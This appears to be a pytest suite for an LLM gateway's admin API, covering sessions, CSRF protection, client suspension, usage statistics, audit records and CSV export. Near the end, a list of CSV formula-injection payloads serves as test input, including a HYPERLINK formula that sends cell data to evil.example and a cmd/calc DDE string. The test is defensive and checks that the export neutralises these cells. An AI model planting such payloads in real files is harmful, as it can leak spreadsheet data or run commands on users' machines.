"""The admin API (issue 19) over real HTTP: login, the session cookie and its CSRF token, admins only,
and every view's numbers equal to the usage records of real requests through the gateway."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from collections.abc import Awaitable, Callable
from typing import Any

import aiohttp
import pytest

from gateway.keys import OBSERVER
from gateway.mcp.inbound import VERSIONS
from gateway.observability.usage import RequestQuery, UsageRecord, UsageStore
from tests.conftest import ALICE, BOB, Gateway, bearer, standard_config
from tests.fakes.openai_upstream import FakeOpenAI, Script
from tests.mcp.conftest import stdio_server
from tests.procs import run

ADMIN = "lr-admin-secret-0123456789abcdefgh"
API = "/admin/api"
CLOSED = {"state": "closed", "open_until": None}


def admin_config(primary: FakeOpenAI, backup: FakeOpenAI, **overrides: Any) -> dict[str, Any]:
    data = standard_config(primary, backup, **overrides)
    data["clients"] = [*data["clients"], {"name": "root", "secret": ADMIN, "strategy": "default", "admin": True}]
    return data


@pytest.fixture
async def agw(upstreams: tuple[FakeOpenAI, FakeOpenAI], start_gateway: Callable[..., Awaitable[Gateway]]) -> Gateway:
    return await start_gateway(admin_config(*upstreams))


async def chat(http: aiohttp.ClientSession, gw: Gateway, key: str = ALICE, **body: Any) -> aiohttp.ClientResponse:
    payload = {"model": "openai/gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}], **body}
    async with http.post(gw.url + "/v1/chat/completions", json=payload, headers=bearer(key)) as resp:
        await resp.read()
        return resp


async def get(http: aiohttp.ClientSession, gw: Gateway, path: str, key: str = ADMIN) -> Any:
    async with http.get(gw.url + API + path, headers=bearer(key)) as resp:
        assert resp.status == 200, await resp.text()
        return await resp.json()


async def flushed(gw: Gateway) -> UsageStore:
    """The usage store, once every record so far is written (the admin API reads the store)."""
    writer = gw.app[OBSERVER].usage
    assert writer is not None
    await writer.flush(everything=True)
    return writer.store


async def login(http: aiohttp.ClientSession, gw: Gateway, secret: str = ADMIN) -> aiohttp.ClientResponse:
    async with http.post(gw.url + API + "/login", json={"secret": secret}) as resp:
        await resp.read()
        return resp


async def test_login_sets_a_session_cookie_and_csrf_guards_actions(agw: Gateway) -> None:
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        async with http.post(agw.url + API + "/login", json={"secret": ADMIN}) as resp:
            assert resp.status == 200
            doc = await resp.json()
            cookie = resp.headers["Set-Cookie"]
        assert doc["client"] == "root" and doc["csrf"] and doc["expires_at"] > time.time() + 7 * 3600
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie
        assert "Secure" not in cookie  # plain HTTP from an untrusted peer
        assert ADMIN not in cookie and ADMIN not in json.dumps(doc)
        async with http.get(agw.url + API + "/session") as resp:  # the cookie alone is a credential
            assert resp.status == 200
            assert await resp.json() == doc
        async with http.get(agw.url + API + "/clients") as resp:
            assert resp.status == 200
        async with http.post(agw.url + API + "/clients/bob/suspend") as resp:  # no CSRF token
            assert resp.status == 403
            assert (await resp.json())["error"]["code"] == "csrf_failed"
        async with http.post(agw.url + API + "/clients/bob/suspend", headers={"X-CSRF-Token": "x" * 43}) as resp:
            assert resp.status == 403
        async with http.post(agw.url + API + "/clients/bob/suspend", headers={"X-CSRF-Token": doc["csrf"]}) as resp:
            assert resp.status == 200, await resp.text()
            assert await resp.json() == {"name": "bob", "suspended": True}
        async with http.post(agw.url + API + "/logout", headers={"X-CSRF-Token": doc["csrf"]}) as resp:
            assert resp.status == 204
        async with http.get(agw.url + API + "/session") as resp:
            assert resp.status == 200
            assert await resp.json() == {"client": None}
    async with aiohttp.ClientSession() as http:  # a Bearer caller needs no CSRF token
        async with http.post(agw.url + API + "/clients/bob/resume", headers=bearer(ADMIN)) as resp:
            assert resp.status == 200
        async with http.get(agw.url + API + "/session", headers=bearer(ADMIN)) as resp:
            assert resp.status == 200
            assert await resp.json() == {"client": None}  # no session: nothing to show


async def test_a_forged_or_foreign_cookie_is_refused(agw: Gateway, http: aiohttp.ClientSession) -> None:
    for cookie in ("lras.e30.AAAA", "lrat.x.y", "garbage"):
        async with http.get(agw.url + API + "/clients", headers={"Cookie": f"lr_admin={cookie}"}) as resp:
            assert resp.status == 401


async def test_secure_cookie_behind_a_trusted_tls_proxy(
    upstreams: tuple[FakeOpenAI, FakeOpenAI],
    start_gateway: Callable[..., Awaitable[Gateway]],
    http: aiohttp.ClientSession,
) -> None:
    data = admin_config(*upstreams)
    data["server"] = {**data["server"], "trusted_proxies": ["127.0.0.1/32"]}
    gw = await start_gateway(data)
    proto = {"X-Forwarded-Proto": "https"}
    async with http.post(gw.url + API + "/login", json={"secret": ADMIN}, headers=proto) as resp:
        assert resp.status == 200
        assert "Secure" in resp.headers["Set-Cookie"]


async def test_login_refusals(agw: Gateway, http: aiohttp.ClientSession) -> None:
    assert (await login(http, agw, "lr-wrong-secret-0123456789abcdef")).status == 401
    assert (await login(http, agw, ALICE)).status == 403  # a client, but not an admin
    async with http.post(agw.url + API + "/login", data=b"secret=x") as resp:
        assert resp.status == 415
    async with http.post(agw.url + API + "/login", json={"secret": 5}) as resp:
        assert resp.status == 400
        assert (await resp.json())["error"]["param"] == "secret"


async def test_non_admin_gets_403_everywhere(agw: Gateway, http: aiohttp.ClientSession) -> None:
    for method, path in (("GET", "/overview"), ("GET", "/clients"), ("POST", "/clients/bob/suspend")):
        async with http.request(method, agw.url + API + path, headers=bearer(ALICE)) as resp:
            assert resp.status == 403
            assert (await resp.json())["error"]["code"] == "admin_required"
        async with http.request(method, agw.url + API + path) as resp:
            assert resp.status == 401


async def test_overview_and_clients_equal_the_usage_records(
    agw: Gateway, upstreams: tuple[FakeOpenAI, FakeOpenAI], http: aiohttp.ClientSession
) -> None:
    primary, _ = upstreams
    primary.queue(Script(status=400, body={"error": {"message": "bad", "type": "invalid_request_error"}}))
    assert (await chat(http, agw)).status == 400
    for _ in range(3):
        assert (await chat(http, agw)).status == 200
    assert (await chat(http, agw, key=BOB, model="backup/gpt-4o-mini")).status == 200
    store = await flushed(agw)
    rows = store.requests(RequestQuery(limit=100))
    assert len(rows) == 5
    doc = await get(http, agw, "/overview?range=1h")
    assert len(doc["series"]) == 60 and all(b["t"] % 60 == 0 for b in doc["series"])
    assert doc["requests"] == 5 and sum(b["requests"] for b in doc["series"]) == 5
    assert doc["errors"] == 1 and doc["error_rate"] == pytest.approx(0.2)
    durations = sorted(r.duration_ms for r in rows)
    assert doc["duration_ms"] == {"p50": durations[2], "p95": durations[4]}  # nearest rank of five
    assert doc["today"]["requests"] == 5
    assert doc["today"]["total_tokens"] == sum(r.total_tokens for r in rows)
    assert doc["workers"] == 1 and doc["streams_in_flight"] == 0
    assert doc["status"] == "ok"
    day = await get(http, agw, "/overview?range=24h")
    assert len(day["series"]) == 96 and day["requests"] == 5
    clients = {c["name"]: c for c in (await get(http, agw, "/clients"))["clients"]}
    assert set(clients) == {"alice", "bob", "carol", "root"}
    alice = [r for r in rows if r.client == "alice"]
    assert clients["alice"]["today"]["requests"] == 4 == clients["alice"]["month"]["requests"]
    assert clients["alice"]["today"]["total_tokens"] == sum(r.total_tokens for r in alice)
    assert clients["bob"]["today"]["requests"] == 1
    assert clients["carol"]["enabled"] is False and clients["root"]["admin"] is True
    assert not any(c["suspended"] for c in clients.values())
    body = json.dumps(clients)
    assert ALICE not in body and BOB not in body and "secret" not in body


async def test_bad_query_parameters_are_400(agw: Gateway, http: aiohttp.ClientSession) -> None:
    for path, param in (("/overview?range=2h", "range"),):
        async with http.get(agw.url + API + path, headers=bearer(ADMIN)) as resp:
            assert resp.status == 400
            assert (await resp.json())["error"]["param"] == param
    async with http.post(agw.url + API + "/clients/nobody/suspend", headers=bearer(ADMIN)) as resp:
        assert resp.status == 404


async def test_suspend_refuses_at_once_and_resume_restores(agw: Gateway, http: aiohttp.ClientSession) -> None:
    assert (await chat(http, agw)).status == 200
    async with http.post(agw.url + API + "/clients/alice/suspend", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
    resp = await chat(http, agw)
    assert resp.status == 401
    async with http.get(agw.url + "/v1/models", headers=bearer(ALICE)) as models:
        assert models.status == 401
        assert (await models.json())["error"]["code"] == "client_suspended"
    clients = {c["name"]: c for c in (await get(http, agw, "/clients"))["clients"]}
    assert clients["alice"]["suspended"] is True
    async with http.post(agw.url + API + "/clients/alice/resume", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
    assert (await chat(http, agw)).status == 200


async def test_usage_rows_and_csv_equal_the_cli_json(agw: Gateway, http: aiohttp.ClientSession) -> None:
    for _ in range(2):
        assert (await chat(http, agw)).status == 200
    assert (await chat(http, agw, key=BOB, model="backup/gpt-4o-mini")).status == 200
    await flushed(agw)
    since = time.time() - 3600
    db = agw.app[OBSERVER].config.usage.path
    for by in ("client", "model", "provider", "day"):
        cli = run("usage", "--db", db, "--since", "1h", "--by", by, "--json")
        assert cli.returncode == 0, cli.stderr
        expected = json.loads(cli.stdout)
        assert expected  # something to compare
        doc = await get(http, agw, f"/usage?by={by}&since={since}")
        assert doc["by"] == by and doc["rows"] == expected
        async with http.get(agw.url + API + f"/usage?by={by}&since={since}&format=csv", headers=bearer(ADMIN)) as resp:
            assert resp.status == 200 and resp.content_type == "text/csv"
            table = list(csv.DictReader(io.StringIO(await resp.text())))
        assert [list(r) for r in table] == [list(e) for e in expected]  # same columns, same order
        assert table == [{k: "" if v is None else str(v) for k, v in e.items()} for e in expected]
    empty = await get(http, agw, f"/usage?by=client&since={since}&until={since + 1}")
    assert empty["rows"] == []
    for query, param in (
        ("by=user", "by"),
        ("since=yesterday", "since"),
        ("since=-5", "since"),
        ("since=nan", "since"),
        (f"since={since}&until={since - 5}", "until"),
        ("format=xml", "format"),
    ):
        async with http.get(agw.url + API + "/usage?" + query, headers=bearer(ADMIN)) as resp:
            assert resp.status == 400, query
            assert (await resp.json())["error"]["param"] == param


async def test_requests_filtered_paged_and_one_by_id(
    agw: Gateway, upstreams: tuple[FakeOpenAI, FakeOpenAI], http: aiohttp.ClientSession
) -> None:
    primary, _ = upstreams
    primary.queue(Script(status=400, body={"error": {"message": "bad", "type": "invalid_request_error"}}))
    ids = []
    for _ in range(6):
        resp = await chat(http, agw)
        ids.append(resp.headers["X-Request-ID"])
    resp = await chat(http, agw, key=BOB, model="backup/gpt-4o-mini")
    bob_id = resp.headers["X-Request-ID"]
    await flushed(agw)
    seen, cursor = [], None
    while True:
        page = await get(http, agw, "/requests?limit=3" + (f"&before={cursor}" if cursor else ""))
        seen += page["requests"]
        cursor = page["next"]
        if cursor is None:
            break
    assert [r["id"] for r in seen] == [bob_id, *reversed(ids)]  # newest first, every one once
    first = seen[-1]
    assert first["status"] == 400 and first["client"] == "alice" and first["model_requested"] == "openai/gpt-4o-mini"
    assert set(first) == set(UsageRecord._fields)
    bobs = await get(http, agw, "/requests?client=bob")
    assert [r["id"] for r in bobs["requests"]] == [bob_id] and bobs["next"] is None
    assert bobs["requests"][0]["model"] == "backup/gpt-4o-mini" and bobs["requests"][0]["provider"] == "backup"
    backup = await get(http, agw, "/requests?model=backup/gpt-4o-mini")
    assert [r["id"] for r in backup["requests"]] == [bob_id]
    for status, expected in (("4xx", [ids[0]]), ("error", [ids[0]]), ("400", [ids[0]]), ("200", seen[:-1])):
        found = await get(http, agw, f"/requests?status={status}")
        assert [r["id"] for r in found["requests"]] == [r if isinstance(r, str) else r["id"] for r in expected]
    one = await get(http, agw, f"/requests/{ids[2]}")
    store_record = await asyncio.to_thread((await flushed(agw)).get, ids[2])
    assert one == store_record.public()
    async with http.get(agw.url + API + "/requests/nope", headers=bearer(ADMIN)) as resp:
        assert resp.status == 404
    for query, param in (
        ("limit=0", "limit"),
        ("limit=501", "limit"),
        ("status=600", "status"),
        ("status=ok", "status"),
        ("before=%%%", "before"),
        ("before=bm9wZQ", "before"),
    ):
        async with http.get(agw.url + API + "/requests?" + query, headers=bearer(ADMIN)) as resp:
            assert resp.status == 400, query
            assert (await resp.json())["error"]["param"] == param


async def test_providers_reset_cooldown_and_audit(
    upstreams: tuple[FakeOpenAI, FakeOpenAI],
    start_gateway: Callable[..., Awaitable[Gateway]],
    http: aiohttp.ClientSession,
) -> None:
    primary, _ = upstreams
    data = admin_config(*upstreams)
    data["providers"][0]["cooldown"] = {"failures": 1, "seconds": 300}
    gw = await start_gateway(data)
    primary.queue(Script(status=500))
    resp = await chat(http, gw)  # openai fails, its cooldown opens; backup answers
    assert resp.status == 200 and resp.headers["x-localrouter-model"] == "backup/gpt-4o-mini"
    await flushed(gw)
    doc = await get(http, gw, "/providers")
    providers = {p["name"]: p for p in doc["providers"]}
    targets = {t["id"]: t for p in doc["providers"] for t in p["targets"]}
    assert providers["openai"]["type"] == "openai"
    mini = targets["openai/gpt-4o-mini"]
    assert mini["breaker"]["state"] == "open" and mini["breaker"]["open_until"] > time.time() + 200
    assert mini["last_error"] and mini["reachable"] is None  # a configured list: not discovered
    backup = targets["backup/gpt-4o-mini"]  # discovered from the fake's /models
    assert backup["reachable"] is True and backup["discovered_at"] <= time.time()
    assert backup["breaker"] == {"state": "closed", "open_until": None}
    [record] = (await flushed(gw)).requests(RequestQuery())
    assert backup["latency_ms"]["p50"] == record.duration_ms
    assert doc["mcp_servers"] == []
    async with http.post(gw.url + API + "/targets/openai/gpt-4o-mini/reset", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
        assert await resp.json() == {"target": "openai/gpt-4o-mini", "breaker": {"state": "closed", "open_until": None}}
    resp = await chat(http, gw)
    assert resp.headers["x-localrouter-model"] == "openai/gpt-4o-mini"  # tried again at once
    for target in ("openai/nope", "nobody/gpt-4o-mini", "gpt-4o-mini"):
        async with http.post(gw.url + API + f"/targets/{target}/reset", headers=bearer(ADMIN)) as resp:
            assert resp.status == 404, target
    async with http.post(gw.url + API + "/clients/bob/suspend", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
    audit = (await get(http, gw, "/audit?kind=operator"))["records"]
    assert [(r["actor"], r["action"], r["subject"], r["client"]) for r in audit] == [
        ("root", "suspend", "bob", "bob"),
        ("root", "reset_cooldown", "openai/gpt-4o-mini", None),
    ]
    await flushed(gw)  # and once written, the same
    assert (await get(http, gw, "/audit?limit=1"))["records"] == audit[:1]
    assert (await get(http, gw, "/audit?kind=firewall"))["records"] == []
    for query in ("kind=user", "limit=0", "limit=x"):
        async with http.get(gw.url + API + "/audit?" + query, headers=bearer(ADMIN)) as resp:
            assert resp.status == 400


async def test_no_answer_holds_a_secret(agw: Gateway, http: aiohttp.ClientSession) -> None:
    assert (await chat(http, agw)).status == 200
    await flushed(agw)
    async with http.post(agw.url + API + "/login", json={"secret": ADMIN}) as resp:
        texts = [await resp.text()]
    for path in ("/overview", "/providers", "/clients", "/usage", "/requests", "/audit", "/session"):
        async with http.get(agw.url + API + path, headers=bearer(ADMIN)) as resp:
            texts.append(await resp.text())
    for secret in (ADMIN, ALICE, BOB, "sk-upstream-primary-key", "sk-upstream-backup-key", "secret_sha256"):
        assert not any(secret in t for t in texts), secret


async def test_overview_cache_and_firewall_and_the_providers_pools(
    upstreams: tuple[FakeOpenAI, FakeOpenAI],
    start_gateway: Callable[..., Awaitable[Gateway]],
    http: aiohttp.ClientSession,
    agw: Gateway,
) -> None:
    doc = await get(http, agw, "/overview")
    assert doc["cache"] is None  # no strategy has a cache
    assert doc["firewall"] == {"total": 0, "by_action": {}}
    assert (await get(http, agw, "/providers"))["pools"] == []

    data = admin_config(*upstreams, pools=[{"name": "mini", "targets": ["openai/gpt-4o-mini", "backup/gpt-4o-mini"]}])
    data["strategies"][0] |= {"cache": True, "firewall": [{"match": "openai/text-embedding-*", "action": "deny"}]}
    data["strategies"][0]["allow"].append("pool/*")
    gw = await start_gateway(data)
    cache = (await get(http, gw, "/overview"))["cache"]
    assert cache == {"lookups": 0, "hits": 0, "hit_ratio": None, "bytes": 0}  # no lookup yet
    assert [(await chat(http, gw)).headers["x-localrouter-cache"] for _ in range(3)] == ["miss", "hit", "hit"]
    pooled = [{"role": "user", "content": "pooled"}]
    assert (await chat(http, gw, model="pool/mini", messages=pooled)).status == 200
    async with http.post(gw.url + "/v1/embeddings", json={"model": "openai/text-embedding-3-small", "input": "x"},
                         headers=bearer(ALICE)) as resp:  # fmt: skip
        assert resp.status == 403
    doc = await get(http, gw, "/overview")
    async with http.get(gw.url + "/metrics") as resp:
        metrics = await resp.text()
    assert doc["cache"]["lookups"] == 4 and doc["cache"]["hits"] == 2 and doc["cache"]["hit_ratio"] == 0.5
    assert f"localrouter_cache_bytes {float(doc['cache']['bytes'])}" in metrics and doc["cache"]["bytes"] > 0
    assert doc["firewall"] == {"total": 1, "by_action": {"deny": 1}}
    [pool] = (await get(http, gw, "/providers"))["pools"]
    assert pool == {
        "name": "mini",
        "id": "pool/mini",
        "balance": "round_robin",
        "targets": [
            {"id": "openai/gpt-4o-mini", "weight": None, "requests": 1, "breaker": CLOSED},
            {"id": "backup/gpt-4o-mini", "weight": None, "requests": 0, "breaker": CLOSED},
        ],
    }

    gw = await start_gateway({**data, "metrics": {"enabled": False}})
    doc = await get(http, gw, "/overview")
    assert doc["cache"] is None and doc["firewall"] is None and doc["streams_in_flight"] is None
    assert {t["requests"] for t in (await get(http, gw, "/providers"))["pools"][0]["targets"]} == {None}


async def test_session_check_before_login_is_no_error(agw: Gateway, http: aiohttp.ClientSession) -> None:
    """A page asks who is logged in before anyone did: an answer, not a 401 (a browser logs every 401)."""
    for headers in ({}, {"Cookie": "lr_admin=garbage"}, {"Cookie": "lr_admin=lras.e30.AAAA"}):
        async with http.get(agw.url + API + "/session", headers=headers) as resp:
            assert resp.status == 200, headers
            assert await resp.json() == {"client": None}
    async with http.get(agw.url + API + "/session", headers=bearer("lr-wrong-secret-0123456789abcdef")) as resp:
        assert resp.status == 401  # a credential sent must still hold
    async with http.get(agw.url + API + "/session", headers={"x-api-key": "lr-wrong-secret-0123456789abcdef"}) as resp:
        assert resp.status == 401
    async with http.get(agw.url + API + "/session", headers=bearer(ALICE)) as resp:
        assert resp.status == 403
        assert (await resp.json())["error"]["code"] == "admin_required"
    async with http.get(agw.url + API + "/clients", headers={"Cookie": "lr_admin=garbage"}) as resp:
        assert resp.status == 401  # every other admin endpoint still wants a live session
        assert (await resp.json())["error"]["code"] == "session_expired"


async def _login_cookie(gw: Gateway) -> tuple[str, str]:
    """(cookie value, csrf token) of a fresh login."""
    jar = aiohttp.CookieJar(unsafe=True)
    async with aiohttp.ClientSession(cookie_jar=jar) as http:
        async with http.post(gw.url + API + "/login", json={"secret": ADMIN}) as resp:
            assert resp.status == 200
            csrf = (await resp.json())["csrf"]
    return next(c.value for c in jar if c.key == "lr_admin"), csrf


def with_cookie(cookie: str, csrf: str | None = None) -> dict[str, str]:
    return {"Cookie": f"lr_admin={cookie}", **({"X-CSRF-Token": csrf} if csrf else {})}


async def test_logout_needs_the_csrf_token_and_ends_the_session_for_every_copy(
    agw: Gateway, http: aiohttp.ClientSession
) -> None:
    (cookie, csrf), (other, other_csrf) = await _login_cookie(agw), await _login_cookie(agw)
    assert cookie != other and csrf != other_csrf  # two logins in the same second: two sessions
    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie)) as resp:
        assert resp.status == 403  # a cross-site form cannot log an admin out
        assert (await resp.json())["error"]["code"] == "csrf_failed"
    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie, other_csrf)) as resp:
        assert resp.status == 403
    async with http.get(agw.url + API + "/session", headers=with_cookie(cookie)) as resp:
        assert (await resp.json())["client"] == "root"  # still logged in
    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie, csrf)) as resp:
        assert resp.status == 204
        assert "lr_admin=" in resp.headers["Set-Cookie"]  # cleared in the browser
    # a copy of the cookie kept from before the logout: refused
    async with http.get(agw.url + API + "/session", headers=with_cookie(cookie)) as resp:
        assert await resp.json() == {"client": None}
    async with http.get(agw.url + API + "/clients", headers=with_cookie(cookie)) as resp:
        assert resp.status == 401
        assert (await resp.json())["error"]["code"] == "session_expired"
    async with http.post(agw.url + API + "/clients/bob/suspend", headers=with_cookie(cookie, csrf)) as resp:
        assert resp.status == 401
    async with http.post(agw.url + API + "/logout", headers=with_cookie(cookie)) as resp:
        assert resp.status == 204  # over already: nothing to protect
    async with http.get(agw.url + API + "/clients", headers=with_cookie(other)) as resp:
        assert resp.status == 200  # the other session lives on


async def test_an_admin_cannot_suspend_their_own_client(agw: Gateway, http: aiohttp.ClientSession) -> None:
    async with http.post(agw.url + API + "/clients/root/suspend", headers=bearer(ADMIN)) as resp:
        assert resp.status == 409
        error = (await resp.json())["error"]
    assert error["code"] == "cannot_suspend_self" and error["param"] == "name" and "own client" in error["message"]
    assert error["type"] == "invalid_request_error"
    cookie, csrf = await _login_cookie(agw)
    async with http.post(agw.url + API + "/clients/root/suspend", headers=with_cookie(cookie, csrf)) as resp:
        assert resp.status == 409
    clients = {c["name"]: c for c in (await get(http, agw, "/clients"))["clients"]}
    assert clients["root"]["suspended"] is False  # and still in
    async with http.post(agw.url + API + "/clients/root/resume", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200  # resuming oneself changes nothing, harmlessly


async def test_a_suspended_client_gets_no_access_token(agw: Gateway, http: aiohttp.ClientSession) -> None:
    form = {"grant_type": "client_credentials", "client_id": "alice", "client_secret": ALICE}
    async with http.post(agw.url + "/oauth/token", data=form) as resp:
        assert resp.status == 200
    async with http.post(agw.url + API + "/clients/alice/suspend", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
    async with http.post(agw.url + "/oauth/token", data=form) as resp:
        assert resp.status == 401
        body = await resp.json()
        assert body["error"] == "client_suspended" and "suspended" in body["error_description"]
        assert "access_token" not in body
    async with http.post(agw.url + API + "/clients/alice/resume", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
    async with http.post(agw.url + "/oauth/token", data=form) as resp:
        assert resp.status == 200


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\tx", "\rx")


async def _mcp_calls(http: aiohttp.ClientSession, url: str, names: tuple[str, ...]) -> None:
    """A client calls tools by these names (none exists): each call is a usage record under its name."""
    headers = {**bearer(ALICE), "Accept": "application/json, text/event-stream", "MCP-Protocol-Version": VERSIONS[-1]}
    hello = {"protocolVersion": VERSIONS[-1], "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}
    init = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": hello}
    async with http.post(url + "/mcp", json=init, headers=headers) as resp:
        assert resp.status == 200, await resp.text()
        headers["Mcp-Session-Id"] = resp.headers["Mcp-Session-Id"]
    for i, name in enumerate(names, 1):
        call = {"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": name, "arguments": {}}}
        async with http.post(url + "/mcp", json=call, headers=headers) as resp:
            assert resp.status == 200, await resp.text()


async def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    upstreams: tuple[FakeOpenAI, FakeOpenAI],
    start_gateway: Callable[..., Awaitable[Gateway]],
    http: aiohttp.ClientSession,
    tmp_path: Any,
) -> None:
    data = admin_config(*upstreams, mcp_servers=[stdio_server("files", tmp_path / "marker")])
    data["strategies"][0]["mcp"] = ["*"]
    gw = await start_gateway(data)
    await _mcp_calls(http, gw.url, ("files__echo", *FORMULAS))
    await flushed(gw)
    rows = (await get(http, gw, "/usage?by=tool"))["rows"]
    assert {r["tool"] for r in rows} == {"files__echo", *FORMULAS}  # the JSON holds the names as they are
    async with http.get(gw.url + API + "/usage?by=tool&format=csv", headers=bearer(ADMIN)) as resp:
        assert resp.status == 200
        table = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
    tools = {r["tool"] for r in table}
    assert tools == {"files__echo", *("'" + name for name in FORMULAS)}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for cell in r.values())
    by_tool = {r["tool"]: r for r in rows}  # every other cell as in the JSON
    for r in table:
        name = r["tool"] if r["tool"] == "files__echo" else r["tool"][1:]
        assert {k: v for k, v in r.items() if k != "tool"} == {
            k: "" if v is None else str(v) for k, v in by_tool[name].items() if k != "tool"
        }
